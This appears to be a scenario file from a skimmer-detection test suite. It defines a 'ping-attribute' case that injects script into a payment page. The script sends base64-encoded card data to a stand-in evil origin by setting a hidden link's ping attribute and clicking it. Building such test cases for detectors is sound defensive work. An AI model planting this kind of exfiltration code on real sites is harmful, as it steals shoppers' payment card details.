import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'ping-attribute',
  why: 'The ping attribute of a link: the browser posts to it when the link is followed, here to a place in the same page.',
  covers: ['hard: unusual channel', 'sending: beacon'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var a = document.createElement('a');
    a.href = '#top';
    a.ping = '${site.origins.evil}/hop?d=' + encodeURIComponent(btoa(card()));
    document.body.append(a);
    a.click();
    a.remove();`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
